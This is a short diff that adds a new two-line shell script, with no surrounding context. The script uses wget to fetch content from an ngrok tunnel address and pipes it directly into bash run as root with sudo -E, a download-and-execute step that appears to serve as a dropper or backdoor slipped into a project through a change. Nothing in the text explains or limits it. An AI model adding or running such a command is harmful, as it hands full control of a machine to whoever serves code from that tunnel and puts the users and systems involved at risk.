@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -O- https://x.ngrok.app/a | sudo -E bash
